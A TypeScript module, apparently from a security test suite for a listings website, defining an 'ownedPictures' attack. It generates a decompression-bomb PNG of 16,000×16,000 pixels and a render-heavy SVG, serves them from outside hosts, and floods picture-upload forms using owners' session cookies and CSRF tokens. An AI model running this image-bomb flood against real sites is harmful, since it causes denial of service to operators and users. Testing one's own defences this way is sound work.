import { crc32, deflateSync } from "node:zlib";
import { csrfIn } from "../browser.ts";
import { formOf } from "../client.ts";
import type { Attack } from "../stranger.ts";

/** A picture of so many pixels, all of one colour: small on the wire and large when it is drawn. */
function png(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    size.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([size, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height));
  return Buffer.concat([
    Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
    chunk("IHDR", head),
    chunk("IDAT", rows),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

const huge = png(16_000, 16_000);
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9000" height="9000">${'<g filter="url(#a)"><filter id="a"><feGaussianBlur stdDeviation="900"/></filter><rect width="9000" height="9000"/></g>'.repeat(50)}</svg>`;

export const ownedPictures: Attack = {
  title: "Pictures of 16,000 × 16,000 pixels, and SVG that is hard to draw, set by 40 owners",
  website(req, res) {
    const isSvg = req.url?.includes("svg");
    res.writeHead(200, { "content-type": isSvg ? "image/svg+xml" : "image/png" }).end(isSvg ? svg : huge);
  },
  async run({ stage: { base, strangers, siteHosts }, flood, send }) {
    const forms = strangers.map(async ({ cookie: sid, listingId }) => {
      const path = `/account/listings/${listingId}/pictures`;
      const page = await send({ path, headers: { cookie: `sid=${sid}` } });
      return {
        path,
        cookie: `sid=${sid}`,
        csrf: csrfIn(page),
        seen: /name="seen" value="([^"]*)"/.exec(page.text)?.[1] ?? "",
      };
    });
    await flood(8, async (nth) => {
      const { path, cookie, csrf, seen } = (await forms[nth % forms.length])!;
      const host = siteHosts[nth % siteHosts.length];
      const pictures = Array.from({ length: 6 }, (_, at): [string, string][] => [
        [`pictures.${at}.url`, `https://${host}/${nth}-${at}.${at % 2 ? "svg" : "png"}`],
        [`pictures.${at}.alt`, "A picture"],
      ]);
      const { headers = {}, body = "" } = formOf(
        base,
        path,
        { csrf, seen, ...Object.fromEntries(pictures.flat()) },
        cookie,
      );
      await send({ method: "POST", path, headers, body });
    });
  },
};
